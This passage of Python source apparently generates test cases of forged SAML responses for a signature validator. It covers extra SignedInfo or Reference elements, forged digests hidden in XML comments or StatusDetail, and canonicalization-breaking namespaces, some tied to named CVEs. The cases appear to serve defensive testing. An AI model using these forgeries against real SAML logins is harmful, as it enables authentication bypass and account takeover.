            forged.replace(info, second + info),
            base=base,
        )
        attack(
            f"second-signed-info-after-{short}",
            "signature_policy",
            "A second SignedInfo with the forged digest stands after the signed one (CVE-2025-29774).",
            forged.replace(info, info + second),
            base=base,
        )
        attack(
            f"second-signed-info-last-{short}",
            "signature_policy",
            "A second SignedInfo with the forged digest is the Signature's last child.",
            before_first(forged, "</ds:Signature>", second),
            base=base,
        )
        attack(
            f"second-reference-forged-{short}",
            "signature_policy",
            "A second Reference with the forged digest stands before the signed one.",
            forged.replace(
                "<ds:Reference ", cut(second, "<ds:Reference ", "</ds:Reference>") + "<ds:Reference ", 1
            ),
            base=base,
        )
        value, forged_value = digest[16:-17], s.digest_of(octets)
        attack(
            f"digest-in-comment-{short}",
            "forbidden_xml",
            "DigestValue is the forged digest in a comment and then the signed one (CVE-2025-29775).",
            forged.replace(digest, f"<ds:DigestValue><!--{forged_value}-->{value}</ds:DigestValue>"),
            base=base,
        )
        attack(
            f"digest-beside-comment-{short}",
            "forbidden_xml",
            "DigestValue is the forged digest, and the signed one in a comment.",
            forged.replace(digest, f"<ds:DigestValue>{forged_value}<!--{value}--></ds:DigestValue>"),
            base=base,
        )
        attack(
            f"digest-in-status-detail-{short}",
            "signature_invalid",
            "A DigestValue with the forged digest lies in StatusDetail (CVE-2024-45409).",
            before(
                forged,
                "</samlp:Status>",
                f'<samlp:StatusDetail><ds:DigestValue xmlns:ds="{s.DS}">{forged_value}'
                "</ds:DigestValue></samlp:StatusDetail>",
            ),
            base=base,
            also=["structure"],
        )
        reference = cut(second, "<ds:Reference ", "</ds:Reference>").replace(
            "<ds:Reference ", f'<ds:Reference xmlns:ds="{s.DS}" ', 1
        )
        attack(
            f"reference-in-status-detail-{short}",
            "signature_invalid",
            "A Reference with the forged digest lies in StatusDetail (CVE-2024-45409).",
            before(forged, "</samlp:Status>", f"<samlp:StatusDetail>{reference}</samlp:StatusDetail>"),
            base=base,
            also=["structure"],
        )
        empty = s.encode(s.DIGESTS["sha256"][1](b"").digest())
        void = forged.replace(digest, f"<ds:DigestValue>{empty}</ds:DigestValue>")
        for name, old, new_text in (
            ("signed-info", "<ds:SignedInfo>", '<ds:SignedInfo xmlns:v="1">'),
            ("signed-info-path", "<ds:SignedInfo>", '<ds:SignedInfo xmlns:v="../x">'),
            ("target", "<saml:Subject>", '<saml:Subject xmlns:v="relative/path">'),
            ("fragment", "<saml:Subject>", '<saml:Subject xmlns:v="#x">'),
        ):
            if short == "assertion" and name != "target":
                continue
            attack(
                f"void-canonicalization-{name}-{short}",
                "forbidden_xml",
                "A namespace that is no absolute URI makes canonicalization "
                "fail; DigestValue is that of the empty text.",
                void.replace(old, new_text, 1),
                base=base,
            )


def before_first(xml, tag, piece):
    at = xml.index(tag)
    return xml[:at] + piece + xml[at:]


def add_all():
    add_exclusion()
    add_faked_keys()
    add_confusion()
    add_weak()
    add_values()
    add_transforms()
    add_references()
    add_known()
